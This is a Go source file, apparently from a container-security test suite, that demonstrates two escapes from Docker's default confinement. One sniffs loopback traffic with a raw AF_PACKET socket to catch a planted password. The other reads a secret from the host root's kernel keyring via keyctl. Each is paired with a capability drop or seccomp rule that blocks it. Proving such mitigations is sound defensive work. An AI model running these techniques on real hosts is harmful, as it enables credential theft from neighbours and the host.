package main

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"time"

	"golang.org/x/sys/unix"

	"mydocker.example/shared/proof"
)

// What docker's default leaves open: a capability, and a call that no capability guards.

// rawSocket: packets of others. Docker keeps the capability, for ping(8).
var rawSocket = proof.Proof{
	ID: "raw-socket",
	Attack: &proof.Attack{
		Prepare: sendPassword,
		Run:     sniff,
		Without: onTheHost,
		With:    onTheHost,
		Inside:  func(*proof.Attacker) error { return limit(docker &^ bit(unix.CAP_NET_RAW)) },
		Errno:   unix.EPERM,
	},
}

const password = "password=xyzzy"

// sendPassword is a neighbour that sends a password to another over the loopback device,
// again and again, until the half is over.
func sendPassword(*proof.Report) (cleanup func(), err error) {
	to, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	from, err := net.Dial("udp4", to.LocalAddr().String())
	if err != nil {
		to.Close()
		return nil, err
	}
	done := make(chan struct{})
	go func() {
		for {
			select {
			case <-done:
				return
			case <-time.After(20 * time.Millisecond):
				from.Write([]byte(password))
			}
		}
	}()
	return func() { close(done); from.Close(); to.Close() }, nil
}

// sniff is the attack program: it takes a socket that hears everything, and listens.
func sniff(a *proof.Attacker) error {
	if err := setup(noMoreThanDocker()); err != nil {
		return err
	}
	start(a)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(bigEndian(unix.ETH_P_ALL)))
	a.Saw("socket(AF_PACKET, SOCK_RAW)", answer(err))
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	limit := unix.Timeval{Sec: 10}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit); err != nil {
		return setup(err)
	}
	packet := make([]byte, 65536)
	for range 10000 {
		n, _, err := unix.Recvfrom(fd, packet, 0)
		if err != nil {
			return fmt.Errorf("nothing was heard: %w", err)
		}
		if at := bytes.Index(packet[:n], []byte(password)); at >= 0 {
			a.Saw(fmt.Sprintf("a packet of %d bytes, at byte %d", n, at), password)
			return nil
		}
	}
	return errors.New("10000 packets, and none with a password")
}

func bigEndian(n uint16) uint16 { return n<<8 | n>>8 }

// keyring: the kernel keeps keys for users, and for root of a container without a user
// namespace it is the host's root. No capability guards them; a filter does.
var keyring = proof.Proof{
	ID: "keyring",
	Attack: &proof.Attack{
		Prepare: addKey,
		Run:     readKey,
		Without: onTheHost,
		With:    onTheHost,
		Inside: func(*proof.Attacker) error {
			return install(forbid(unix.SYS_KEYCTL, unix.SECCOMP_RET_ERRNO|uint32(unix.EPERM)))
		},
		Errno: unix.EPERM,
	},
}

// addKey is a program of the host's root that keeps a secret with the kernel.
func addKey(*proof.Report) (cleanup func(), err error) {
	id, err := unix.AddKey("user", "backup", []byte("hush"), unix.KEY_SPEC_USER_KEYRING)
	if err != nil {
		return nil, fmt.Errorf("add_key: %w", err)
	}
	return func() { unix.KeyctlInt(unix.KEYCTL_INVALIDATE, id, 0, 0, 0) }, nil
}

// noMoreThanDocker is the first half of these attacks too: what docker leaves is there.
func noMoreThanDocker() error {
	_, permitted, _, err := capget()
	if err != nil {
		return err
	}
	return limit(permitted & docker)
}

// readKey is the attack program. It has docker's set in both halves.
func readKey(a *proof.Attacker) error {
	if err := setup(noMoreThanDocker()); err != nil {
		return err
	}
	start(a)
	// Root's keyring, into our own: who holds a keyring holds what is in it (keyrings(7)).
	_, err := unix.KeyctlInt(unix.KEYCTL_LINK, unix.KEY_SPEC_USER_KEYRING, unix.KEY_SPEC_PROCESS_KEYRING, 0, 0)
	a.Saw("keyctl(KEYCTL_LINK, root's keyring, our own)", answer(err))
	if err != nil {
		return err
	}
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", "backup", 0)
	if err != nil {
		return fmt.Errorf("keyctl(KEYCTL_SEARCH): %w", err)
	}
	secret := make([]byte, 64)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, secret, 0)
	if err != nil {
		return fmt.Errorf("keyctl(KEYCTL_READ): %w", err)
	}
	a.Saw("keyctl(KEYCTL_READ, the key \"backup\")", string(secret[:n]))
	return nil
}
